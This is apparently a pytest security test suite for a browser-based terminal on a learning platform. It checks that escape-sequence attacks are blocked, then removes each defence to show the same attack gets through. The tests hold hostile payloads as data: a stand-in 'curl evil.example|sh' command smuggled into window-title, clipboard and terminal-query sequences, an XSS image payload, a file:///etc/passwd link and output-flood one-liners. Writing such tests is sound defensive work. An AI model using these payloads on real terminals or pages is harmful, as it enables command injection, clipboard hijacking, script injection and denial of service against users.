"""What a stranger's program prints reaches nothing but the screen of whoever looks at it.

An attack is first seen to fail. Then its defence is taken away, in this one page, and the same bytes get through:
so the attack is a real one, and the test would notice.
"""

import base64
import re
import time

import pytest
from platform_under_test import LESSON, until

TERMINAL = "document.querySelector('[data-testid=terminal-client]').terminal"
EVIL = "curl evil.example|sh"
TITLE = f"\x1b]0;{EVIL}\a\x1b]2;{EVIL}\x1b\\\xc2\x9d0;{EVIL}\xc2\x9c"
CLIPBOARD = f"\x1b]52;c;{base64.b64encode(EVIL.encode()).decode()}\a\x1b]52;c;?\a"
QUESTIONS = (
    TITLE
    + "\x05"  # answerback
    + "\x1b[c\x1b[>c\x1b[=c\x1b[>q"  # who are you?
    + "\x1b[5n\x1b[6n\x1b[?6n\x1b[?15n\x1b[?25n\x1b[?26n\x1b[?53n"  # how, and where?
    + "".join(f"\x1b[{number}t" for number in range(25))  # the window's place, size and title
    + "".join(f"\x1bP$q{setting}\x1b\\" for setting in ("m", "r", " q", '"p', '"q', EVIL))
    + f"\x1bP+q{EVIL.encode().hex()}\x1b\\"
    + "\x1b[?2004$p\x1b[?1049$p\x1b[4$p"
    + "\x1b]10;?\a\x1b]11;?\a\x1b]12;?\a\x1b]4;1;?;2;?\a"
    + f"\x1b]1337;ReportVariable={EVIL}\a\x1b]50;?\a\x1b]60\a"
)
ANSWER = re.compile(
    rb"\x1b\[[?>=]?[\d;]*(?:[cnRy]|\$y)|\x1bP[01]\$r[\d;]*[ \"]?[a-z]?\x1b\\|\x1b\](?:4;)?\d+;rgb:[\da-f/]+\x1b\\"
)
MOUSE = re.compile(rb"\x1b\[<\d+;\d+;\d+[Mm]|\x1b\[[IO]")


class Victim:
    """A learner whose shell prints what an attacker wrote, with the clipboard and the title to lose."""

    def __init__(self, learner) -> None:
        self.learner = learner
        self.page = learner.page

    def prints(self, text: str) -> None:
        """Print it byte by byte: a letter stands for the byte of its number."""
        encoded = base64.b64encode(text.encode("latin-1")).decode()
        self.learner.run(f"base64 -d <<< {encoded}; echo")

    def typed_by(self, text: str, meanwhile=lambda: None, watches: bool = False) -> bytes:
        """Print it, and return what the terminal then typed, as the program that asked would read it."""
        encoded = base64.b64encode(text.encode("latin-1")).decode()
        self.learner.run(f"base64 -d <<< {encoded} > attack")
        reader = "stty -icanon -echo -icrnl min 0 time 20; sleep 1; cat attack; echo READS; cat > typed; stty sane"
        self.learner.type(f"{reader}\n")
        self.do(f"terminal.options.disableStdin = {str(watches).lower()};")
        until(lambda: "READS" in self.learner.screen().splitlines(), 10, "the attack to be printed")
        meanwhile()
        self.learner.wait_for_prompt()
        self.do("terminal.options.disableStdin = false; terminal.reset();")
        self.learner.type("\n")
        self.learner.wait_for_prompt()
        return base64.b64decode(self.learner.run("base64 -w0 typed; echo"))

    def do(self, script: str) -> None:
        self.page.evaluate(f"terminal => {{ {script} }}", self.page.evaluate_handle(TERMINAL))

    def clipboard(self) -> str:
        return str(self.page.evaluate("() => navigator.clipboard.readText()"))

    def middle_of(self, text: str) -> tuple[float, float]:
        """Return where on the page a text stands that the terminal shows."""
        script = """text => {
            const host = document.querySelector('[data-testid=terminal-client]');
            const { buffer, cols, rows } = host.terminal;
            const box = host.querySelector('.xterm-screen').getBoundingClientRect();
            for (let row = 0; row < rows; row++) {
                const line = buffer.active.getLine(buffer.active.viewportY + row).translateToString();
                const at = line.lastIndexOf(text);
                if (at < 0 || line.includes('base64')) continue;
                const x = box.x + (at + text.length / 2) * box.width / cols;
                return [x, box.y + (row + 0.5) * box.height / rows];
            }
        }"""
        x, y = self.page.evaluate(script, text)
        return float(x), float(y)

    def clicks(self, text: str) -> None:
        x, y = self.middle_of(text)
        self.page.mouse.move(x, y - 60)
        self.page.mouse.move(x, y, steps=4)
        time.sleep(0.3)
        self.page.mouse.click(x, y)


@pytest.fixture
def victim(resident):
    resident.start_over(permissions=["clipboard-read", "clipboard-write"])
    resident.page.evaluate("() => navigator.clipboard.writeText('mine')")
    return Victim(resident)


def test_the_clipboard_is_neither_written_nor_read(victim):
    typed = victim.typed_by(CLIPBOARD)
    assert typed == b""
    assert victim.clipboard() == "mine"

    victim.do("""terminal.parser.registerOscHandler(52, data => {
        const text = data.split(';')[1];
        if (text !== '?') navigator.clipboard.writeText(atob(text));
        return true;
    })""")
    victim.prints(CLIPBOARD)
    until(lambda: victim.clipboard() == EVIL, 5, "the attack to get through without the defence")


def test_the_title_of_the_page_stays(victim):
    before = victim.page.title()
    victim.prints(TITLE)
    assert victim.page.title() == before

    victim.do("terminal.onTitleChange(title => { document.title = title; })")
    victim.prints(TITLE)
    until(lambda: victim.page.title() == EVIL, 5, "the attack to get through without the defence")


def test_what_the_terminal_answers_holds_nothing_of_the_attackers(victim):
    typed = victim.typed_by(QUESTIONS)
    assert typed.count(b"\x1b") > 10
    assert ANSWER.sub(b"", typed) == b""

    victim.do("""let title = '';
        terminal.options.windowOptions = { getWinTitle: true };
        terminal.onTitleChange(text => { title = text; });
        terminal.parser.registerCsiHandler({ final: 't' }, numbers => {
            if (numbers[0] === 21) terminal.input('\\x1b]l' + title + '\\x1b\\\\', false);
            return true;
        });""")
    typed = victim.typed_by(QUESTIONS)
    assert EVIL.encode() in ANSWER.sub(b"", typed)


def test_a_mouse_that_programs_follow_types_places_and_nothing_else(victim):
    def move() -> None:
        x, y = victim.middle_of("READS")
        victim.page.mouse.move(x, y)
        victim.page.mouse.move(x + 200, y + 100, steps=5)
        victim.page.mouse.click(x + 50, y)
        victim.page.mouse.wheel(0, 300)

    typed = victim.typed_by("\x1b[?1000h\x1b[?1003h\x1b[?1004h\x1b[?1006h", move)
    assert len(MOUSE.findall(typed)) > 3
    assert MOUSE.sub(b"", typed) == b""


def test_one_who_only_watches_sends_nothing(victim):
    """What a terminal for a watcher is to be: the same, with xterm.js's `disableStdin`."""
    typed = victim.typed_by(QUESTIONS, lambda: victim.learner.type("keys\n"), watches=True)
    assert typed == b""
    assert b"keys" in victim.typed_by(QUESTIONS, lambda: victim.learner.type("keys\n"))


@pytest.mark.parametrize(
    "scheme", ["javascript:window.ran=1//", "data:text/html,<script>1</script>", "file:///etc/passwd"]
)
def test_a_link_that_is_no_page_leads_nowhere(victim, scheme):
    asked: list[str] = []
    victim.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
    victim.prints(f"\x1b]8;;{scheme}\x1b\\A FREE SWEET\x1b]8;;\x1b\\")
    victim.clicks("A FREE SWEET")
    time.sleep(0.5)
    assert asked == []
    assert len(victim.page.context.pages) == 1
    assert victim.page.evaluate("() => window.ran") is None

    victim.do("""terminal.options.linkHandler = {
        allowNonHttpProtocols: true, activate: (_event, uri) => { window.followed = uri; },
    }""")
    victim.clicks("A FREE SWEET")
    until(lambda: victim.page.evaluate("() => window.followed") == scheme, 5, "the link to be followed, undefended")


def test_a_link_opens_after_a_question_that_shows_where_it_leads(victim):
    asked: list[str] = []
    answers = [False, True, True]

    def answer(dialog) -> None:
        asked.append(dialog.message)
        dialog.accept() if answers.pop(0) else dialog.dismiss()

    victim.page.on("dialog", answer)
    address = f"{victim.learner.platform.url}/healthz"
    victim.prints(f"\x1b]8;;{address}\x1b\\https://docs.docker.com\x1b]8;;\x1b\\ or {address}?plain")
    victim.clicks("https://docs.docker.com")
    until(lambda: asked, 5, "the question")
    time.sleep(0.5)
    assert address in asked[0]
    assert "docs.docker.com" not in asked[0]
    assert len(victim.page.context.pages) == 1

    for place in ("https://docs.docker.com", "healthz?plain"):
        with victim.page.context.expect_page() as opened:
            victim.clicks(place)
        assert opened.value.url.startswith(address)
        assert opened.value.evaluate("() => window.opener") is None
        opened.value.close()
    assert len(asked) == 3


def test_the_window_and_the_terminal_keep_their_size(victim):
    def size() -> list[int]:
        return victim.page.evaluate(f"() => [innerWidth, innerHeight, screenX, {TERMINAL}.cols, {TERMINAL}.rows]")

    moves = "\x1b[3;9;9t\x1b[4;50;50t\x1b[8;5;5t\x1b[2t\x1b[1t\x1b[9;1t\x1b[10;1t\x1b[?40h\x1b[?3h"
    before = size()
    victim.prints(moves)
    assert size() == before

    victim.do("terminal.options.windowOptions = { setWinLines: true };")
    victim.learner.type(f"base64 -d <<< {base64.b64encode(moves.encode()).decode()}\n")
    until(lambda: size() != before, 5, "the attack to get through without the defence")


FLOODS = {
    "bells": "head -c 2000000 /dev/zero | tr '\\0' '\\a'",
    "a title without end": "printf '\\e]0;'; head -c 12000000 /dev/zero | tr '\\0' A; printf '\\a'",
    "a picture without end": "printf '\\ePq'; head -c 12000000 /dev/zero | tr '\\0' '~'; printf '\\e\\\\'",
    "links": "for i in $(seq 5000); do printf '\\e]8;;http://x/%s\\e\\\\x\\e]8;;\\e\\\\' $i; done; echo",
    "invalid letters": "head -c 300000 /dev/zero | tr '\\0' '\\377'; printf '\\xc0\\xaf\\xed\\xa0\\x80\\xf5'; echo",
    "a screen that waits": "printf '\\e[?2026h'",
    "questions": "stty -echo; yes $'\\e[6n' | head -2000; sleep 1; read -rt 1 -n 100000 -d '' _; stty echo",
}


@pytest.mark.parametrize("flood", FLOODS)
def test_a_flood_leaves_page_and_shell_at_work(victim, flood):
    before = victim.page.title()
    victim.learner.run(FLOODS[flood], 60)
    assert victim.page.title() == before
    assert victim.learner.run("echo served").strip().endswith("served")
    drawn = victim.page.get_by_test_id("terminal-client").locator(".xterm-rows")
    until(lambda: drawn.inner_text().count("served") >= 2, 5, "the screen to be drawn")


PLACES = """() => [...document.querySelectorAll('.xterm-rows > div')].flatMap(row => {
    if (!row.textContent.includes('tpircs')) return [];
    const walker = document.createTreeWalker(row, NodeFilter.SHOW_TEXT), places = [];
    while (walker.nextNode()) {
        const text = walker.currentNode, range = document.createRange();
        for (let i = 0; i < text.length; i++) {
            range.setStart(text, i);
            range.setEnd(text, i + 1);
            if (/[a-z]/.test(text.data[i])) places.push(range.getBoundingClientRect().x);
        }
    }
    return places;
})"""


def test_text_is_not_turned_around(resident):
    resident.start_over(bypass_csp=True)
    victim = Victim(resident)
    victim.prints("run \u202etpircs\u202c".encode().decode("latin-1"))
    places = victim.page.evaluate(PLACES)
    assert len(places) == len("runtpircs")
    assert places == sorted(places)

    victim.page.add_style_tag(content=".xterm-rows span { display: inline !important }")
    places = victim.page.evaluate(PLACES)
    assert places != sorted(places)


MARKUP = "<img/src=x/onerror=window.ran=1>"
COPY_AS_MARKUP = """pane => {
    const copy = new DOMParser().parseFromString(pane.textContent, 'text/html');
    return copy.querySelectorAll('img').length;
}"""


def test_logs_are_text(victim):
    """What a learner makes the daemon and the warehouse log is neither markup nor a sequence in the panes."""
    run = victim.learner.run
    run(f"curl -sg --path-as-is --unix-socket /var/run/docker.sock 'http://d/v1.41/containers/{MARKUP}/json'; echo")
    run(f"docker run --rm warehouse:5000/sarafa/poha $'{MARKUP}\\e[2J\\e]0;x\\a\\u202e' >/dev/null 2>&1; echo")
    token = "http://warehouse:5000/token?scope=repository:sarafa/poha:pull"
    run(f"curl -s '{token}' | jq -r '\"Authorization: Bearer \" + .token' > head")
    run(f"curl -sg -A '{MARKUP}' -H @head 'http://warehouse:5000/v2/sarafa/poha/tags/list?last={MARKUP}'; echo")
    panes = [("daemon", "line"), ("daemon", "raw"), ("warehouse", "raw")]  # the warehouse's lines leave all of it out
    for name, form in panes:
        victim.page.get_by_role("tab", name=name.capitalize()).click()
        if form == "raw":
            victim.page.locator(f"#panel-{name} [data-raw]").click()
        pane = victim.learner.pane(name)
        until(lambda pane=pane: MARKUP in (pane.text_content() or ""), 10, f"the markup in the {name}'s pane")
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", pane.text_content() or "")
        assert pane.locator("img").count() == 0
        assert pane.evaluate(COPY_AS_MARKUP) > 0  # so many pictures it would have been
    assert victim.page.evaluate("() => window.ran") is None


def test_old_questions_are_not_answered_when_a_page_draws_them_again(victim):
    assert victim.typed_by(QUESTIONS)
    sent: list[bytes] = []
    note = lambda frame: sent.append(frame) if isinstance(frame, bytes) else None  # noqa: E731
    victim.page.on("websocket", lambda socket: socket.on("framesent", note))
    victim.page.goto(victim.learner.platform.url + LESSON)
    victim.learner.wait_for_prompt()
    time.sleep(1)
    assert sent == []
    victim.learner.type("x")
    until(lambda: sent == [b"x"], 5, "a key to be sent")
